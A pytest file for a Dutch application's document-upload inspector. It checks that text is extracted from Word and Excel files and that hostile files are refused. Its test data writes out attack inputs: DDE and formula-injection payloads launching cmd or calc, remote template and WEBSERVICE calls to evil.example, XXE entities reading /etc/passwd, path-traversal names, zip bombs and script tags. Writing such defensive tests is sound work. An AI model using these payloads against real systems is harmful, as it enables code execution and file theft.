"""Word and Excel: words come out, the rest is refused or left behind."""

import io
import zipfile
from datetime import date

import pytest
from openpyxl import load_workbook

from woonoverlast.lib.uploads import Refused, inspect
from woonoverlast.lib.uploads.office import WORD
from woonoverlast.lib.uploads.tests.made import (
    NAMESPACE,
    TYPES,
    excel,
    excel_with_formula,
    pdf,
    word,
    word_with,
    zipped,
)

RELATIONS = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'
KINDS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def words(data: bytes) -> str:
    return "\n".join(f"{found.where}: {found.text}" for found in inspect(data).words)


def relation(kind: str, target: str) -> bytes:
    inner = f'<Relationship Id="a" Type="{KINDS}/{kind}" Target="{target}" TargetMode="External"/>'
    return word_with("word/_rels/document.xml.rels", f"<Relationships {RELATIONS}>{inner}</Relationships>")


def test_word_is_known_by_content_and_read() -> None:
    found = inspect(word("Bewoner Jan de Vries\nKerkstraat 12"))
    assert (found.media_type, found.extension) == (WORD, ".docx")
    assert "Jan de Vries\nKerkstraat 12" in found.words[0].text


def test_name_in_pieces_is_read_as_one() -> None:
    runs = "<w:p><w:r><w:t>Jan de </w:t></w:r><w:r><w:t>Vries</w:t></w:r></w:p>"
    assert "Jan de Vries" in words(word_with("word/footnotes.xml", f"<w:footnotes {NAMESPACE}>{runs}</w:footnotes>"))


def test_maker_in_the_properties_is_read() -> None:
    assert "eigenschappen van het bestand: Plan\nJan de Vries" in words(word(creator="Jan de Vries"))


def test_who_commented_is_read() -> None:
    inner = '<w:comment w:author="Jan de Vries"><w:p><w:r><w:t>Bel hem.</w:t></w:r></w:p></w:comment>'
    found = words(word_with("word/comments.xml", f"<w:comments {NAMESPACE}>{inner}</w:comments>"))
    assert "een opmerking: \nJan de Vries" in found


def test_what_was_struck_out_is_read() -> None:
    inner = '<w:p><w:del w:author="a"><w:r><w:delText>Kerkstraat 12</w:delText></w:r></w:del></w:p>'
    assert "Kerkstraat 12" in words(word_with("word/header1.xml", f"<w:hdr {NAMESPACE}>{inner}</w:hdr>"))


def test_link_to_a_mail_address_is_read() -> None:
    assert "jan@gmail.com" in words(relation("hyperlink", "mailto:jan@gmail.com"))


def test_rows_of_excel_are_read_with_dates_and_headings() -> None:
    found = words(excel(["Naam", "Geboortedatum", "Mobiel"], ["Jan de Vries", date(1980, 3, 12), 612345678]))
    assert "Jan de Vries\t12-03-1980" in found
    assert "Geboortedatum: 12-03-1980" in found
    assert "Mobiel: 0612345678" in found


def test_what_is_kept_opens_as_before() -> None:
    kept = load_workbook(io.BytesIO(inspect(excel(["a", 1], ["b", 2])).data))
    assert [[cell.value for cell in row] for row in kept.worksheets[0].rows] == [["a", 1], ["b", 2]]


def test_tail_behind_a_document_goes() -> None:
    sent = word() + b"<script>alert(1)</script>"
    assert b"<script>" not in inspect(sent).data


@pytest.mark.parametrize("part", ["word/vbaProject.bin", "xl/macrosheets/sheet1.xml", "word/vbaData.xml"])
def test_macros_are_refused(part: str) -> None:
    with pytest.raises(Refused, match="macro"):
        inspect(word_with(part, b"x"))


def test_kind_with_macros_is_refused() -> None:
    with pytest.raises(Refused, match="macro"):
        inspect(word(kind="application/vnd.ms-word.document.macroEnabled.main+xml"))


@pytest.mark.parametrize(
    "part", ["word/embeddings/a.xlsx", "word/embeddings/oleObject1.bin", "word/activeX/a.xml", "word/media/a.svg"]
)
def test_files_inside_are_refused(part: str) -> None:
    with pytest.raises(Refused, match="ander bestand"):
        inspect(word_with(part, b"<a/>"))


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("attachedTemplate", "https://evil.example/a.dotm"),
        ("image", "https://evil.example/a.png"),
        ("hyperlink", "file:///etc/passwd"),
    ],
)
def test_what_is_fetched_from_elsewhere_is_refused(kind: str, target: str) -> None:
    with pytest.raises(Refused, match="koppeling"):
        inspect(relation(kind, target))


def test_ordinary_link_is_fine() -> None:
    assert inspect(relation("hyperlink", "https://www.overheid.nl/")).media_type == WORD


@pytest.mark.parametrize(
    "formula", ["cmd|'/C calc'!A0", "MSEXCEL|'..\\calc.exe'!A1", 'WEBSERVICE("https://evil.example")']
)
def test_formula_that_starts_something_is_refused(formula: str) -> None:
    assert inspect(excel_with_formula("SUM(A2:A9)")).extension == ".xlsx"
    with pytest.raises(Refused, match="koppeling"):
        inspect(excel_with_formula(formula))


def test_field_that_starts_something_is_refused() -> None:
    runs = "<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\cmd.exe</w:instrText></w:r></w:p>"
    with pytest.raises(Refused, match="koppeling"):
        inspect(word_with("word/footer1.xml", f"<w:ftr {NAMESPACE}>{runs}</w:ftr>"))


@pytest.mark.parametrize(
    "entity",
    [
        '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        '<!DOCTYPE a [<!ENTITY x "xx">]><a>&x;&x;</a>',
    ],
)
def test_entities_are_refused(entity: str) -> None:
    with pytest.raises(Refused, match="beschadigd"):
        inspect(word_with("word/settings.xml", entity))


def test_zip_bomb_is_refused() -> None:
    sent = word_with("word/media/a.png", bytes(120 * 1024 * 1024))
    assert len(sent) < 200_000
    with pytest.raises(Refused, match="uitgepakt te groot"):
        inspect(sent)


def test_bomb_that_lies_about_its_size_is_refused() -> None:
    sent = bytearray(word_with("word/media/a.png", bytes(60 * 1024 * 1024)))
    true = (60 * 1024 * 1024).to_bytes(4, "little")
    assert sent.count(true) >= 1
    with pytest.raises(Refused):
        inspect(bytes(sent).replace(true, (1000).to_bytes(4, "little")))


def test_ten_thousand_parts_are_refused() -> None:
    parts: dict[str, str | bytes] = {"[Content_Types].xml": TYPES.format(part="a", kind=f"{WORD}.main+xml")}
    with pytest.raises(Refused, match="uitgepakt te groot"):
        inspect(zipped(parts | {f"word/media/{number}.png": b"" for number in range(10_000)}))


@pytest.mark.parametrize("name", ["../../etc/passwd", "/etc/passwd", "word\\..\\a.xml", "C:/a.xml"])
def test_names_that_lead_elsewhere_are_refused(name: str) -> None:
    with pytest.raises(Refused):
        inspect(word_with(name, b"x"))


def test_two_parts_of_one_name_are_refused() -> None:
    made = io.BytesIO(word())
    with zipfile.ZipFile(made, "a") as archive, pytest.warns(UserWarning, match="Duplicate name"):
        archive.writestr("word/document.xml", "<a/>")
    with pytest.raises(Refused):
        inspect(made.getvalue())


def test_any_other_zip_is_refused() -> None:
    with pytest.raises(Refused, match="Kies een PDF"):
        inspect(zipped({"a.html": "<script>alert(1)</script>"}))


def test_truncated_document_is_refused() -> None:
    with pytest.raises(Refused, match="beschadigd"):
        inspect(word()[:-40])


def test_old_word_is_refused_with_what_to_do() -> None:
    with pytest.raises(Refused, match=r"Sla het op als \.docx"):
        inspect(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600))


def test_document_behind_a_pdf_is_refused() -> None:
    with pytest.raises(Refused):
        inspect(pdf() + word())
